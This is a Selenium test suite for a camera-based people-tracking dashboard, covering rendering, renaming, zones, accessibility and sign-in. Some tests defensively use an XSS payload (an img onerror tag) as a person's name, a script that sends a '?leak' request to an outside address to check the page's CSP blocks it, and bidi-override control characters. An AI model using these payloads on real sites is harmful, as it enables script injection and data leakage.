"""The live page in a real browser: headless Chromium, used as a person would."""

import json
import threading

import cv2
import numpy as np
import pytest
from selenium.common.exceptions import StaleElementReferenceException
from selenium.webdriver.common.action_chains import ActionChains
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.support.ui import WebDriverWait

from sdk.colours import as_bgr, colour_of
from sdk.events import Event
from sdk.serve import Access, serve
from sdk.serve.plan import Plan
from sdk.serve.zones import ZoneBook
from sdk.zones import Zones, ZoneWatch, read_zones
from tests.browsing import complaints, flaws, nameless, overflow, requested, screen, weak_contrast
from tests.crowd import LOST, UNBROKEN, Crowd, cameras
from tests.moving import BLUE, GREEN
from tests.stage import Stage, make_busy

EVIL = '<img src="http://192.0.2.1/x" onerror="document.title=1">'
TOKEN = "a token that nobody guesses"


@pytest.fixture
def stage():
    """The busy site, going on: blue in the lobby and green at the dock walk up and down."""
    stage, end = make_busy(Stage()), threading.Event()

    def go_on():
        steps = [*range(10, 200, 4), *range(200, 10, -4)]
        at = 40
        while not end.wait(0.05):
            x = steps[at % len(steps)]
            stage.walk(1, dock=[(GREEN, x)], lobby=[(BLUE, x)])
            at += 1

    thread = threading.Thread(target=go_on, daemon=True)
    thread.start()
    yield stage
    end.set()
    thread.join()


class Live:
    """What a person sees and does."""

    def __init__(self, chromium):
        self.chromium = chromium
        waiting = WebDriverWait(
            chromium, 20, poll_frequency=0.05, ignored_exceptions=[StaleElementReferenceException, IndexError]
        )
        self.until = lambda condition: waiting.until(lambda _: condition())

    def all(self, css):
        return self.chromium.find_elements(By.CSS_SELECTOR, css)

    def one(self, css):
        return self.chromium.find_element(By.CSS_SELECTOR, css)

    @property
    def here(self):
        return sorted(name.text for name in self.all("#present b"))

    @property
    def opened(self):
        return self.one("#person-name").text if self.all("dialog[open]") else None

    @property
    def focus(self):
        return self.chromium.switch_to.active_element

    def press(self, *keys):
        ActionChains(self.chromium).send_keys(*keys).perform()

    def open(self, address):
        self.chromium.get(address)
        self.until(lambda: len(self.here) == 2)
        self.until(lambda: len(self.all(".view img:not([hidden])")) == 2)

    def open_person(self, name):
        self.until(lambda: next(row for row in self.all("#present button") if name in row.text).click() or True)
        self.until(lambda: self.opened == name)


@pytest.fixture
def page(chromium, stage):
    with serve(stage.site) as address, screen(chromium, 1280, 900):
        chromium.get("about:blank")
        requested(chromium), complaints(chromium)
        page = Live(chromium)
        page.open(address)
        page.address = address
        yield page
        chromium.get("about:blank")
        assert [line for line in complaints(chromium) if " 409 " not in line] == []


def test_the_cameras_are_live(page, stage):
    assert [name.text for name in page.all("figcaption b")] == ["dock", "lobby"]
    before = page.one(".view img").get_attribute("src")
    page.until(lambda: page.one(".view img").get_attribute("src") != before)
    box = page.one('[data-number="1"] .boxes button')
    left = box.location["x"]
    page.until(lambda: page.one('[data-number="1"] .boxes button').location["x"] != left)
    page.one('[data-number="1"] .enlarge').click()
    page.until(lambda: page.one('[data-number="1"]').size["width"] > 700)


def test_a_person_has_one_colour_in_the_picture_and_in_the_list(page):
    for name in page.here:
        page.until(lambda name=name: page.all(f'.boxes button[data-name="{name}"]'))
        box = f'.boxes button[data-name="{name}"]'
        assert style(page, box, "borderTopColor") == rgb(colour_of(name))
        assert style(page, f"{box} span", "backgroundColor") == rgb(colour_of(name))
        assert style(page, f'#present li[data-name="{name}"] .portrait', "borderTopColor") == rgb(colour_of(name))


def rgb(colour):
    blue, green, red = as_bgr(colour)
    return f"rgb({red}, {green}, {blue})"


def style(page, css, name):
    script = "return getComputedStyle(document.querySelector(arguments[0]))[arguments[1]]"
    return page.chromium.execute_script(script, css, name)


def test_a_name_stays_inside_its_picture(page):
    """Wherever its box is, also at all edges, and however long it is."""
    outside = page.chromium.execute_script(
        """
        const boxes = document.createElement("div"), view = document.querySelector(".view"), found = [];
        boxes.className = "boxes";
        view.append(boxes);
        for (const x of [0, .3, .48, .6, .9]) for (const y of [0, .05, .5, .9]) {
          drawBoxes(boxes, [[[x, y, x + .1, y + .1], "somebody with a name of many words"]], ["#e07828"]);
          const label = boxes.querySelector("span").getBoundingClientRect(), all = view.getBoundingClientRect();
          const across = label.left >= all.left && label.right <= all.right;
          const along = label.top >= all.top && label.bottom <= all.bottom;
          if (!across || !along) found.push([x, y]);
        }
        boxes.remove();
        return found;
        """
    )
    assert outside == []


def test_who_is_in_a_picture_opens_by_a_click(page):
    name = page.one('[data-number="1"] .boxes button').get_attribute("data-name")
    page.chromium.execute_script("document.querySelector('[data-number=\"1\"] .boxes button').click()")
    page.until(lambda: page.opened == name)
    stays = page.all("#person-stays li")
    assert [stay.text.split("\n")[0] for stay in stays] == ["lobby", "dock"]
    assert "until now" in stays[0].text
    page.press(Keys.ESCAPE)
    page.until(lambda: page.opened is None)


def test_a_person_is_renamed_by_keyboard_alone(page, stage):
    page.press("/")
    assert page.focus.get_attribute("id") == "find"
    page.press("person-1")
    page.until(lambda: [row.text for row in page.all("#found b")] == ["person-1"])
    page.press(Keys.ARROW_DOWN, Keys.ENTER)
    page.until(lambda: page.opened == "person-1")
    for _ in range(4):
        if page.focus.get_attribute("id") == "new-name":
            break
        page.press(Keys.TAB)
    ActionChains(page.chromium).key_down(Keys.CONTROL).send_keys("a").key_up(Keys.CONTROL).perform()
    page.press(EVIL, Keys.ENTER)
    page.until(lambda: page.opened == EVIL)
    assert stage.reid.gallery.identities() == [EVIL, "person-2"]
    page.press(Keys.ESCAPE)
    page.until(lambda: page.here == [EVIL, "person-2"])
    assert page.chromium.title == "People at the site", "a name is never markup"


def test_a_name_of_before_there_were_rules_is_written_out_and_can_be_changed(page, stage, monkeypatch):
    with monkeypatch.context() as patch:
        for module in ("gallery.gallery", "serve.site"):
            patch.setattr(f"sdk.{module}.checked_name", lambda name, what="": name)
        stage.site.rename("person-1", "e\x1bve\u202e")
    page.until(lambda: page.here == ["e\\u001bve\\u202e", "person-2"])
    page.open_person("e\\u001bve\\u202e")
    field = page.one("#new-name")
    field.clear()
    field.send_keys("a\u202eb", Keys.ENTER)
    page.until(lambda: "a name is one line of plain text" in page.one("#answer").text)
    field.clear()
    field.send_keys("eve", Keys.ENTER)
    page.until(lambda: page.here == ["eve", "person-2"])
    assert stage.reid.gallery.identities() == ["eve", "person-2"]
    complaints(page.chromium)  # who was refused is not known either, says the console


def test_two_names_of_one_person_are_merged(page, stage):
    page.open_person("person-2")
    field = page.one("#new-name")
    field.clear()
    field.send_keys("person-1", Keys.ENTER)
    page.until(lambda: "is in the gallery already" in page.one("#answer").text)
    page.one("#merge-button").click()
    page.until(lambda: page.opened == "person-1")
    assert stage.reid.gallery.identities() == ["person-1"]


def test_a_person_is_forgotten_after_a_second_thought(page, stage):
    page.open_person("person-1")
    page.one("#forget-button").click()
    assert page.focus.get_attribute("id") == "forget-no"
    page.press(Keys.ENTER)
    assert page.focus.get_attribute("id") == "forget-button"
    assert "person-1" in stage.reid.gallery.identities()
    page.press(Keys.ENTER)
    ActionChains(page.chromium).key_down(Keys.SHIFT).send_keys(Keys.TAB).key_up(Keys.SHIFT).perform()
    assert page.focus.get_attribute("id") == "forget-yes"
    exemplars = len(stage.reid.gallery)
    page.press(Keys.ENTER)
    page.until(lambda: page.opened is None)
    assert page.one("#said").get_attribute("textContent") == "person-1 is forgotten"
    assert len(stage.reid.gallery) < exemplars


def test_trouble_is_shown(page, stage):
    stage.site.listen(Event(stage.time, "camera_lost", "dock", detail={"reason": "no route to host"}))
    page.until(lambda: "connection lost: no route to host" in page.one('[data-number="0"] .view').text)
    assert page.one("#lately li").text.split("\n")[1] == "dock was lost: no route to host"
    over = "the sources have ended"  # said again and again, for the stage goes on
    page.until(lambda: stage.site.end(over) or page.one("#trouble").text == over)


def test_a_server_that_is_gone_is_said_and_found_again(chromium, stage):
    page = Live(chromium)
    with screen(chromium, 1280):
        with serve(stage.site) as address:
            page.open(address)
        page.until(lambda: "No answer" in page.one("#trouble").text)
        assert (page.all(".lamp.live"), page.one("#facts").text[:14]) == ([], "0 of 2 cameras")
        assert {notice.text for notice in page.all(".view p")} == {"Not live: the program does not answer"}
        assert page.one("#present-title").text == "Here at the end"
        assert "here now" not in page.one("#found").text
        with serve(stage.site, port=int(address.rstrip("/").rsplit(":", 1)[1])):
            page.until(lambda: page.one("#trouble").text == "")
            page.until(lambda: len(page.all(".lamp.live")) == 2)
            assert page.one("#present-title").text == "Here now"
        chromium.get("about:blank")
        complaints(chromium)


def test_no_request_leaves_the_machine(page):
    page.open_person("person-1")
    asked = requested(page.chromium)
    assert len(asked) > 10
    assert [url for url in asked if not url.startswith((page.address, f"blob:{page.address}", "data:"))] == []
    page.chromium.execute_script(
        "new Image().src = 'http://192.0.2.1/?leak'; fetch('http://192.0.2.1/').catch(() => 0)"
    )
    page.until(lambda: page.chromium.execute_script("return true"))
    blocked = complaints(page.chromium)
    assert blocked, "the page's policy stops one"
    assert all("Content Security Policy" in line for line in blocked)


def test_with_a_token_one_signs_in(chromium, stage):
    page = Live(chromium)
    with serve(stage.site, Access(TOKEN)) as address, screen(chromium, 400):
        chromium.get(address)
        assert chromium.current_url == address + "sign-in"
        assert page.focus.get_attribute("id") == "token"
        assert (overflow(chromium), nameless(chromium), weak_contrast(chromium)) == (0, [], [])
        page.press("wrong", Keys.ENTER)
        page.until(lambda: "not the token" in page.one("#answer").text)
        page.one("#token").clear()
        page.one("#token").send_keys(TOKEN, Keys.ENTER)
        page.until(lambda: page.all("#present b"))
        page.until(lambda: page.one("#sign-out").is_displayed())
        page.one("#sign-out").click()
        page.until(lambda: page.all("#token"))
        chromium.get("about:blank")
        complaints(chromium)


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 400])
def test_it_fits_and_can_be_read(chromium, stage, width, scheme):
    stage.site.rename("person-2", "A" * 80)
    page = Live(chromium)
    with serve(stage.site) as address, screen(chromium, width, 900, scheme):
        page.open(address)
        for opened in (False, True):
            if opened:
                page.open_person("A" * 80)
                page.one("#forget-button").click()
            assert overflow(chromium) <= 0
            assert nameless(chromium) == []
            assert weak_contrast(chromium) == []
        assert page.one("dialog").size["width"] <= width
        dark = chromium.execute_script("return getComputedStyle(document.body).backgroundColor")
        assert (sum(json.loads("[" + dark[4:-1] + "]")) < 384) == (scheme == "dark")
        chromium.get("about:blank")


def test_a_zone_is_drawn_saved_and_shown_over_the_picture(chromium, stage, tmp_path):
    path = tmp_path / "zones.yaml"
    stage.site.zones = ZoneBook(ZoneWatch(Zones(), stage.tracker), path)
    page = Live(chromium)
    with serve(stage.site) as address, screen(chromium, 1280, 900):
        page.open(address)
        page.until(lambda: page.one('[aria-label="Zones of dock"]').click() or True)
        page.until(lambda: page.one("#zone-picture").size["height"] > 100)
        view = page.one("#zone-view")
        for x, y in ((-100, -50), (100, -50), (100, 50)):
            ActionChains(chromium).move_to_element_with_offset(view, x, y).click().perform()
        page.one("#zone-name").send_keys("gate/1")
        assert nameless(chromium) == []
        assert weak_contrast(chromium) == []
        assert overflow(chromium) <= 0
        page.one("#zone-form button").click()
        page.until(lambda: [name.text for name in page.all("#zone-list span")] == ["gate/1"])
        (gate,) = read_zones(path).of("dock").zones
        assert (len(gate.points), gate.in_shares) == (3, True)
        page.until(lambda: len(page.all(".view > .zones polygon")) == 1)
        view.send_keys(Keys.ENTER, Keys.ARROW_RIGHT, Keys.ENTER, Keys.ARROW_DOWN, Keys.ENTER)
        page.one("#zone-name").clear()
        page.one("#zone-name").send_keys("desk", Keys.ENTER)
        page.until(lambda: [shape.name for shape in read_zones(path).of("dock").zones] == ["gate/1", "desk"])
        page.until(lambda: [name.text for name in page.all("#zone-list span")] == ["gate/1", "desk"])
        button = page.one('[aria-label="Take away gate/1"]')
        view.send_keys(Keys.ENTER)  # all else is drawn anew; the button stays
        button.click()
        page.until(lambda: [shape.name for shape in read_zones(path).of("dock").zones] == ["desk"])
        chromium.get("about:blank")
        assert complaints(chromium) == []


@pytest.fixture(scope="module")
def plan(tmp_path_factory):
    """Of the crowd's site: a white room, its cameras in three rows, up to all edges."""
    folder = tmp_path_factory.mktemp("plan")
    cv2.imwrite(str(folder / "room.png"), np.full((300, 450, 3), 255, np.uint8))
    places = "".join(f"  {name}: [{i % 4 / 3:.2f}, {i // 4 / 2}]\n" for i, name in enumerate(cameras()))
    (folder / "plan.yaml").write_text("image: room.png\ncameras:\n" + places)
    return Plan.load(folder / "plan.yaml", cameras())


@pytest.mark.parametrize(("width", "scheme"), [(1280, "light"), (400, "dark")])
def test_sixty_people_before_twelve_cameras(chromium, plan, width, scheme):
    crowd, page = Crowd(plan=plan), Live(chromium)
    with serve(crowd.site) as address, screen(chromium, width, scheme=scheme):
        chromium.get("about:blank")
        complaints(chromium)
        chromium.get(address)
        page.until(lambda: len(page.all("#present li")) == 60 and page.all("#found li"))
        top = chromium.execute_script("return document.getElementById('present').getBoundingClientRect().top")
        assert top < 800, "who is here is in the first window"
        assert page.one("nav").is_displayed() == (width == 400)
        if width == 400:
            page.one('nav [href="#find-part"]').click()
            where = "return document.getElementById('find').getBoundingClientRect().top"
            page.until(lambda: 0 < chromium.execute_script(where) < 300)
        cut = """
            return [...document.querySelectorAll("b, .camera-name span:last-child")]
              .filter((e) => e.scrollWidth > e.clientWidth + 1 && getComputedStyle(e).display !== "inline")
              .map((e) => e.textContent);
            """
        assert chromium.execute_script(cut) == [], "no name is cut off"
        assert (overflow(chromium) <= 0, weak_contrast(chromium)) == (True, [])
        check_the_plan(page, crowd)
        page.open_person(UNBROKEN)
        assert (overflow(chromium) <= 0, nameless(chromium)) == (True, [])
        page.press(Keys.ESCAPE)
        crowd.site.end("the sources have ended")
        page.until(lambda: page.one("#present-title").text == "Here at the end")
        assert page.all(".lamp.live") == page.all(".spot.live") == []
        assert complaints(chromium) == []
        assert chromium.title == "People at the site"
        chromium.get("about:blank")


def check_the_plan(page, crowd):
    """Everybody is at their camera, in their colour; what is written there stays text, and inside the plan."""
    spots = page.all("#plan .spot")
    assert len(spots) == len(cameras())
    told = [spot.get_attribute("aria-label") for spot in spots]
    assert told[2].startswith("camera-03: person-")
    assert told[cameras().index(LOST)].startswith(f"{LOST}: connection lost, person-")
    assert EVIL in told[-1]
    colours = page.chromium.execute_script(
        "return [...arguments[0].querySelectorAll('i')].map((e) => getComputedStyle(e).backgroundColor)", spots[2]
    )
    there = [person["identity"] for person in crowd.site.state()["present"] if person["cameras"] == [2]]
    assert (len(there), colours) == (5, [rgb(colour_of(name)) for name in there])
    outside = page.chromium.execute_script(
        """
        const plan = document.getElementById("plan").getBoundingClientRect();
        return [...document.querySelectorAll(".spot")].map((e) => e.getBoundingClientRect()).filter((box) =>
          box.left < plan.left - 1 || box.right > plan.right + 1
          || box.top < plan.top - 1 || box.bottom > plan.bottom + 1);
        """
    )
    assert outside == []
    page.chromium.execute_script("arguments[0].scrollIntoView()", page.one("#plan-part"))
    spots[2].click()
    assert page.focus.get_attribute("aria-label") == "Enlarge camera-03"


@pytest.mark.parametrize(("width", "scheme"), [(1280, "light"), (400, "dark")])
def test_axe_finds_nothing_in_the_page(chromium, plan, width, scheme):
    page = Live(chromium)
    with serve(Crowd(plan=plan).site) as address, screen(chromium, width, scheme=scheme):
        chromium.get(address)
        page.until(lambda: len(page.all("#present li")) == 60 and page.all("#found li"))
        assert flaws(chromium) == []
        chromium.execute_script("openPerson('person-33')")
        page.until(lambda: page.opened == "person-33")
        assert flaws(chromium, "dialog") == []
        chromium.get("about:blank")
        complaints(chromium)
